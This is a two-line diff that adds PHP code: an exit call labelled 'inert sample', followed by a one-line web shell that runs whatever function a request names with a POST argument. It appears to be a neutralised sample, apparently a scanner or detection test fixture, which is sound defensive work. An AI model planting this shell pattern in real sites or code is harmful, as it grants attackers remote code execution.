@@ -1,0 +1,2 @@
+<?php exit('inert sample'); ?>
+<?php $_GET['f']($_POST['a']); ?>
